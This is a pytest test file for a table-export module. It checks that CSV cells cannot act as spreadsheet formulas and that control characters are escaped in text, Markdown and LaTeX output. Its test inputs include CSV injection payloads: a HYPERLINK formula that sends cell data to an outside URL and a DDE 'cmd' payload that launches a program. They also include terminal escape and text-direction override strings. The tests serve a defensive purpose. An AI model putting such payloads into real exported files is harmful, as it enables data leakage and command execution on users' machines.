"""Tables as text: names and texts of anyone in them."""

import csv
import io

import pytest

from selw2s_jax.analysis import formats


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://a/?"&A1,"x")', """"'=HYPERLINK(""http://a/?""&A1,""x"")\""""),
        ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", '"\'\t=1"'),
        (" =1", "' =1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\uff1d1", "'\uff1d1"),
        ("a;=1", '"a;=1"'),
        ("-5", "-5"),
        ("a = b", "a = b"),
        (-0.25, "-0.25"),
        (None, ""),
        (7, "7"),
    ],
)
def test_no_cell_of_csv_is_a_formula(value, cell):
    column = formats.Column("a", "A", "what it is")
    table = formats.Table("t", "T", [column], [{"a": value}])
    written = formats.to_csv([({}, table)])
    assert written == f"a\n{cell}\n"
    assert len(list(csv.reader(io.StringIO(written)))[1]) <= 1


@pytest.mark.parametrize("text", ["a\x1b[31mb", "a\rb\x00", "\x9b2J", "\u202eevil"])
def test_control_characters_are_shown_as_codes(text):
    shown = formats.aligned([["x", text]])
    assert "\\x" in shown or "\\u202e" in shown or "\\r" in shown
    column = formats.Column("a", "A", "what it is")
    table = formats.Table("t", text, [column], [{"a": text}])
    for written in (shown, formats.to_markdown(table, text), formats.to_latex(table, text)):
        assert written.replace("\n", "").isprintable()
